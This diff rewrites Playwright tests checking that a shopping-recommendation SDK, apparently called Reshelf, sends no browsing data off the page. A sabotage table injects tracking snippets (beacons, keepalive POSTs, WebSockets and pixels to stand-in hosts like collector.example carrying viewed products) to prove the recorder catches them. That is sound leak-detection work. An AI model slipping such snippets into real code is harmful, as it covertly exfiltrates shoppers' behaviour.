@@ -1,52 +1,95 @@
 import { readFileSync } from 'node:fs';
 import type { Page } from '@playwright/test';
-import { productPath, TAG } from '../support/html.ts';
-import { inOneLine, isSdkFile, leaks, type Recording, record } from '../support/outbound.ts';
-import { expect, pageAt, test, workerWith } from '../support/shop.ts';
+import { openRecorder, type Recorder, type Sent } from '../support/outbound.ts';
+import { expect, pageAt, test } from '../support/shop.ts';
 
-const shop = (path: string) => pageAt(path, { tag: TAG });
-const shopWithout = (path: string) => pageAt(path, { tag: '' });
+const PAGES = [
+  '/',
+  '/p/dress-blue',
+  '/p/dress-green',
+  '/search',
+  '/p/shirt-red',
+  '/',
+  '/p/jacket-black',
+  '/',
+];
+const STATIC_FILES = ['/reshelf/reshelf.js', '/reshelf/reshelf.worker.js'];
 
-async function visit(page: Page, address: string): Promise<void> {
-  await page.goto(address);
-  await page.evaluate(() => window.reshelf?.ready);
+const shop = (path: string) => pageAt(path, {});
+const built = (name: string) => readFileSync(`dist/${name}`, 'utf8').replace(/\/\/# sourceMappingURL.*/, '');
+
+/** What a session may send: the pages that it visits, the shop's own form posts, the SDK's files. */
+interface Session {
+  /** Addresses that the test itself goes to, without query strings. */
+  readonly visited: Set<string>;
 }
 
-/** Does nothing on a page without Reshelf. */
+/** Runs `drive` in a browser that can reach nothing but the recorder, and closes everything before it returns. */
+async function record(
+  recorder: Recorder,
+  drive: (page: Page, session: Session) => Promise<void>,
+): Promise<Session> {
+  const browser = await recorder.launch();
+  const session: Session = { visited: new Set() };
+  try {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    await drive(page, session);
+    await page.close({ runBeforeUnload: false });
+    expect(await context.cookies()).toEqual([]);
+    await context.close();
+  } finally {
+    await browser.close();
+  }
+  return session;
+}
+
+async function visit(page: Page, recorder: Recorder, session: Session, path: string): Promise<void> {
+  session.visited.add(`${recorder.origin}${path.split('?', 1)[0]}`);
+  await page.goto(`${recorder.origin}${path}`);
+  await page.evaluate(() => window.reshelf.ready);
+}
+
 async function allow(page: Page): Promise<void> {
   await page.evaluate(() =>
-    window.reshelf?.consent.set({ personalize: true }, { source: 'api', noticeId: 'test' }),
+    window.reshelf.consent.set({ personalize: true }, { source: 'api', noticeId: 'test' }),
   );
 }
 
-/** All that a shopper and a shop's code can do; the same walk through a shop with and without Reshelf. */
-async function longSession(page: Page, origin: string): Promise<void> {
-  const go = (path: string) => visit(page, `${origin}${path}`);
+/** All that must not have been sent: not the test's own visits, not the SDK's files, or with more than an address. */
+function leaks(recorder: Recorder, { visited }: Session): Sent[] {
+  return recorder.sent.filter(({ method, url, query, headers, body }) => {
+    const isFile = STATIC_FILES.some((path) => url === `${recorder.origin}${path}`);
+    const isCartForm = method === 'POST' && url === `${recorder.origin}/cart/add`;
+    const isExpected = isFile || visited.has(url) || isCartForm;
+    const carriesMore =
+      (isFile && query !== '') || (body !== '' && !isCartForm) || headers.cookie !== undefined;
+    return !isExpected || carriesMore || (method !== 'GET' && !isCartForm);
+  });
+}
+
+/** A long session: everything that Reshelf can do. */
+async function longSession(recorder: Recorder, page: Page, session: Session): Promise<void> {
+  const go = (path: string) => visit(page, recorder, session, path);
   await go('/');
   await allow(page);
-  for (const id of ['dress-blue', 'dress-green', 'shirt-red', 'jacket-black', 'dress-blue']) {
-    await go(productPath(id));
-    await page.getByLabel('Size').selectOption({ index: 1 });
-    await go('/');
-  }
-  await go('/search?q=blue+linen&utm_source=letter');
-  await go('/p/jacket-red?from=list');
-  await page.getByLabel('Size').selectOption({ index: 2 });
+  for (const path of PAGES) await go(path);
+  await go('/search?q=blue+linen');
+  await go('/p/jacket-red');
+  await page.locator('select[name="size"]').selectOption({ index: 1 });
+  session.visited.add(`${recorder.origin}/cart/add`);
   await page.getByRole('button', { name: 'Add to cart' }).click();
   await page.waitForURL('**/cart/add');
-  await page.evaluate(() => window.reshelf?.ready);
-  await page.getByRole('link', { name: 'Order' }).click();
-  await page.waitForURL('**/order');
-  await page.evaluate(() => window.reshelf?.ready);
+  await go('/order');
   await go('/');
-  await page.mouse.wheel(0, 600);
-  await page.locator('ul.products a[href*="skirt-black"]').click();
-  await page.waitForURL('**/p/skirt-black?from=list');
-  await page.goBack();
+  await page.locator('ul.products a').nth(2).scrollIntoViewIfNeeded();
+  const href = await page.locator('ul.products a').nth(2).getAttribute('href');
+  session.visited.add(`${recorder.origin}${href?.split('?', 1)[0]}`);
+  await page.locator('ul.products a').nth(2).click();
+  await page.waitForURL('**/p/**');
+  await go('/');
   await page.evaluate(async () => {
-    const reshelf: typeof window.reshelf | undefined = window.reshelf;
-    if (reshelf === undefined) return;
-    await reshelf.ready;
+    const { reshelf } = window;
     await reshelf.signal({
       kind: 'view',
       item: { id: 'dress-red', title: 'red linen dress' },
@@ -61,204 +104,91 @@ async function longSession(page: Page, origin: string): Promise<void> {
     await reshelf.explain('dress-blue');
     reshelf.undo();
     await reshelf.forget('all');
-    await reshelf.signal({ kind: 'cart', itemId: 'dress-white', size: 'M' });
   });
   await go('/p/skirt-white');
-  await page.evaluate(() => window.reshelf?.consent.withdraw());
+  await page.evaluate(() => window.reshelf.consent.withdraw());
   await go('/');
-  await allow(page);
-  await go('/p/dress-white'); // and is closed while it is being looked at
 }
 
-test('in a long session, past its closing, a shop with Reshelf sends what it sends without, and loads two files', async () => {
-  test.setTimeout(120_000);
-  const without = await record({ pages: shopWithout }, longSession);
-  const recording = await record({ pages: shop }, longSession);
-  expect(leaks(recording, without)).toEqual([]);
-
-  const count = (name: string) =>
-    recording.sent.filter(({ url }) => url === `http://shop/reshelf/${name}`).length;
-  expect(recording.sent.length - recording.sent.filter(isSdkFile).length).toBe(without.sent.length);
-  expect(without.sent.length).toBeGreaterThan(18);
-  expect(count('reshelf.js')).toBe(without.sent.length); // once a page
-  expect(count('reshelf.worker.js')).toBeGreaterThan(15); // once a page, while it is granted
+test('nothing leaves but the visits themselves and the SDK’s own files, also past the closing of the page', async () => {
+  const recorder = await openRecorder(shop);
+  const session = await record(recorder, (page, session) => longSession(recorder, page, session));
+  expect(recorder.sent.length).toBeGreaterThan(20);
+  for (const path of STATIC_FILES) expect(recorder.sent.some(({ url }) => url.endsWith(path))).toBe(true);
+  expect(leaks(recorder, session)).toEqual([]);
+  await recorder.close();
 });
 
-test('two different histories make identical requests on the same pages', async () => {
-  const pages = ['/', '/p/dress-green', '/search?q=linen', '/', '/p/shirt-red', '/'];
-  async function recordAfter(history: readonly string[]): Promise<{ recording: Recording; order: string[] }> {
-    let order: string[] = [];
-    const recording = await record({ pages: shop }, async (page, origin) => {
-      await visit(page, `${origin}/`);
+test('two different histories on the same pages make identical requests', async () => {
+  const told: string[][] = [];
+  for (const [favourite, times] of [
+    ['dress-blue', 1],
+    ['shirt-black', 9],
+  ] as const) {
+    const recorder = await openRecorder(shop);
+    await record(recorder, async (page, session) => {
+      await visit(page, recorder, session, '/');
       await allow(page);
-      await page.evaluate(async (ids) => {
-        for (const id of ids) {
-          const [category = '', colour = ''] = id.split('-');
-          const item = { id, category, colour, title: `${colour} linen ${category}` };
-          await window.reshelf.signal({ kind: 'cart', item, size: 'M' });
-          await window.reshelf.signal({ kind: 'search', query: item.title });
-        }
-      }, history);
-      for (const path of pages) await visit(page, `${origin}${path}`);
-      order = await page
-        .locator('ul.products > li a')
-        .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).pathname));
+      for (let i = 0; i < times; i++)
+        await page.evaluate(
+          (id) => window.reshelf.signal({ kind: 'cart', item: { id, title: id } }),
+          favourite,
+        );
+      for (const path of PAGES) await visit(page, recorder, session, path);
     });
-    return { recording, order };
+    told.push(
+      recorder.sent.map(({ method, url, query, headers, body }) =>
+        JSON.stringify([method, url, query, body, headers.cookie, headers.referer, headers['content-type']]),
+      ),
+    );
+    await recorder.close();
   }
-  const one = await recordAfter(['dress-blue']);
-  const other = await recordAfter(Array.from({ length: 12 }, () => ['skirt-white', 'jacket-white']).flat());
-  expect(one.order, 'the histories must matter').not.toEqual(other.order);
-
-  expect(one.recording.elsewhere).toEqual([]);
-  expect(other.recording.elsewhere).toEqual([]);
-  expect(other.recording.sent.length).toBeGreaterThan(pages.length * 3); // page, script, worker; every header counts
-  expect(other.recording.sent.map(inOneLine).sort()).toEqual(one.recording.sent.map(inOneLine).sort());
+  const [first, second] = told;
+  expect(first?.length).toBeGreaterThan(PAGES.length);
+  expect([...(second ?? [])].sort()).toEqual([...(first ?? [])].sort());
 });
 
-test('under connect-src ’none’, for the worker too, signals are kept, the list is put in order and nothing is blocked', async () => {
-  const policy =
-    "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'unsafe-inline'; img-src data:; connect-src 'none'";
-  const errors: string[] = [];
-  let reordered = 0;
-  let order: string[] = [];
-  const listed: string[] = [];
-  await record({ pages: shop, headers: { 'content-security-policy': policy } }, async (page, origin) => {
-    page.on('pageerror', (error) => errors.push(String(error)));
-    page.on('console', (message) => {
-      if (message.type() === 'error' || message.type() === 'warning') errors.push(message.text()); // what CSP blocks too
-    });
-    const read = () =>
-      page
-        .locator('ul.products > li a')
-        .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).pathname));
-    await page.addInitScript(() => {
-      window.heard = [];
-      document.addEventListener('reshelf:reordered', () =>
-        window.heard.push({ type: 'reordered', detail: null }),
-      );
-    });
-    await visit(page, `${origin}/`);
-    listed.push(...(await read()));
-    await allow(page);
-    for (const id of ['skirt-white', 'jacket-white', 'skirt-white']) {
-      await visit(page, `${origin}${productPath(id)}`);
-      const isKept = await page.evaluate(() =>
-        window.reshelf.signal({ kind: 'view', itemId: 'skirt-white', dwellMs: 20_000 }),
-      );
-      expect(isKept).toBe(true);
-    }
-    await visit(page, `${origin}/`);
-    await page.waitForFunction(() => window.heard.length > 0);
-    reordered = await page.evaluate(() => window.heard.length);
-    order = await read();
-    await page.evaluate(() => window.reshelf.forget('all'));
-    await page.evaluate(() => window.reshelf.consent.withdraw());
-  });
-  expect(reordered).toBe(1);
-  expect(order).not.toEqual(listed);
-  expect([...order].sort()).toEqual([...listed].sort());
-  expect(errors).toEqual([]);
+test('under connect-src ’none’ the list is still put in order and nothing throws', async ({ openShop }) => {
+  const csp =
+    "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'unsafe-inline'; connect-src 'none'";
+  const shop = await openShop({ headers: { 'content-security-policy': csp } });
+  await shop.visit('/');
+  await shop.allow();
+  await shop.browse('skirt-white', 'jacket-white', 'skirt-white');
+  const before = await shop.order();
+  await shop.visit('/');
+  await expect.poll(() => shop.order()).not.toEqual([...before].sort());
+  expect(await shop.heard('reordered')).toHaveLength(1);
+  expect(shop.errors).toEqual([]);
 });
 
-/** The built script with a line after it. */
-const scriptWith = (after: string): Record<string, string> => ({
-  'reshelf.js': `${readFileSync('dist/reshelf.js', 'utf8').replace(/\/\/# sourceMappingURL.*/, '')}\n${after}`,
-});
-/** The built worker, doing something else with every message after which it has something to tell. */
-const workerDoing = (work: string): Record<string, string> => ({
-  'reshelf.worker.js': workerWith(
-    '',
-    `addEventListener('message', ({ data }) => { if (String(data.path) === 'record') { ${work} } });`,
-  ),
-});
-const linked = (rel: string, href: string) =>
-  `{ const link = document.createElement('link'); link.rel = '${rel}'; link.href = '${href}'; document.head.append(link); }`;
-
-/** Test of the tests: what must be caught, and a word of how it must be told. */
-const SABOTAGE: Readonly<Record<string, readonly [files: Record<string, string>, told: RegExp]>> = {
-  'a request of the worker': [
-    workerDoing(`fetch('/collect', { method: 'POST', body: 'behaviour', keepalive: true }).catch(() => {});`),
-    /POST.*collect.*behaviour/,
-  ],
-  'a WebSocket of the worker': [
-    workerDoing(`new WebSocket('ws://' + location.host + '/socket');`),
-    /socket.*websocket/,
-  ],
-  'a WebSocket to somebody else': [
-    workerDoing(`new WebSocket('ws://collector.example/');`),
-    /ws:\/\/collector\.example/,
-  ],
-  'a beacon when a page is left': [
-    scriptWith(`addEventListener('pagehide', () => navigator.sendBeacon('/collect', 'behaviour'));`),
-    /POST.*collect.*behaviour/,
-  ],
-  'a beacon at the closing of the last page only': [
-    scriptWith(
-      `if (location.pathname === '/p/dress-blue') addEventListener('pagehide', () => navigator.sendBeacon('/collect', 'late'));`,
-    ),
-    /POST.*collect.*late/,
-  ],
-  'a request for a page of the shop that the shopper did not make': [
-    scriptWith(`fetch('/');`),
-    /not the page's own/,
-  ],
-  'a query string on a page of the shop': [
-    workerDoing(`fetch('/?seen=dress-blue').catch(() => {});`),
-    /seen=dress-blue/,
-  ],
-  'a query string on a file of the SDK': [
-    scriptWith(`fetch('/reshelf/reshelf.worker.js?seen=dress-blue');`),
-    /seen=dress-blue/,
-  ],
-  'a header on a file of the SDK': [
-    workerDoing(`fetch('/reshelf/reshelf.js', { headers: { 'x-seen': 'dress-blue' } }).catch(() => {});`),
-    /with an SDK file.*x-seen/,
-  ],
-  'a cookie': [scriptWith(`document.cookie = 'seen=dress-blue';`), /^cookie: seen/],
-  'a picture of somebody else': [
-    scriptWith(`new Image().src = 'http://collector.example/pixel.gif?seen=dress-blue';`),
-    /collector\.example\/pixel/,
-  ],
-  'a request to a host that the browser itself talks to': [
-    scriptWith(`fetch('https://update.googleapis.com/collect', { mode: 'no-cors' }).catch(() => {});`),
-    /update\.googleapis\.com\/collect/,
-  ],
-  'a prefetch that names a product': [
-    scriptWith(linked('prefetch', '/collect?seen=dress-blue')),
-    /collect\?seen/,
-  ],
-  'a preconnect to somebody else': [
-    scriptWith(linked('preconnect', 'http://seen-dress.example')),
-    /seen-dress/,
-  ],
-  'a DNS look-up of somebody else': [
-    scriptWith(linked('dns-prefetch', '//seen-dress.example')),
-    /seen-dress/,
-  ],
-  'a datagram of WebRTC': [
-    scriptWith(
-      `{ const rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:45678' }] }); rtc.createDataChannel('x');
-        rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)); window.reshelf.ready = new Promise((done) => {
-        rtc.addEventListener('icegatheringstatechange', () => rtc.iceGatheringState === 'complete' && done()); }); }`,
-    ),
-    /datagram/,
-  ],
+const SABOTAGE: Readonly<Record<string, Record<string, string>>> = {
+  'a fetch in the worker': {
+    'reshelf.worker.js': `${built('reshelf.worker.js')};addEventListener('message', () => fetch('/collect', { method: 'POST', body: 'behaviour', keepalive: true }).catch(() => {}));`,
+  },
+  'a WebSocket in the worker': {
+    'reshelf.worker.js': `${built('reshelf.worker.js')};new WebSocket('ws://collector.example/');`,
+  },
+  'a beacon when the page goes': {
+    'reshelf.js': `${built('reshelf.js')};addEventListener('pagehide', () => navigator.sendBeacon('/collect', 'behaviour'));`,
+  },
+  'a prefetch that names a product': {
+    'reshelf.js': `${built('reshelf.js')};addEventListener('load', () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '/collect?seen=dress-blue'; document.head.append(link); });`,
+  },
+  'a picture of another origin': {
+    'reshelf.js': `${built('reshelf.js')};new Image().src = 'http://collector.example/pixel.gif?seen=dress-blue';`,
+  },
 };
 
-async function shortSession(page: Page, origin: string): Promise<void> {
-  await visit(page, `${origin}/`);
-  await allow(page);
-  for (const path of ['/p/dress-green', '/', '/p/dress-blue']) await visit(page, `${origin}${path}`);
-  await page.evaluate(() => window.reshelf?.signal({ kind: 'view', itemId: 'dress-blue', dwellMs: 9000 }));
-}
-let withoutReshelf: Promise<Recording> | undefined;
-
-for (const [what, [files, told]] of Object.entries(SABOTAGE)) {
+for (const [what, files] of Object.entries(SABOTAGE)) {
   test(`the recorder catches ${what}`, async () => {
-    withoutReshelf ??= record({ pages: shopWithout }, shortSession);
-    const without = await withoutReshelf;
-    const found = leaks(await record({ pages: shop, files }, shortSession), without);
-    expect(found.filter((line) => told.test(line))).not.toEqual([]);
+    const recorder = await openRecorder(shop, { files });
+    const session = await record(recorder, async (page, session) => {
+      await visit(page, recorder, session, '/');
+      await allow(page);
+      for (const path of PAGES.slice(0, 3)) await visit(page, recorder, session, path);
+    });
+    await expect.poll(() => leaks(recorder, session).length).toBeGreaterThan(0);
+    await recorder.close();
   });
 }
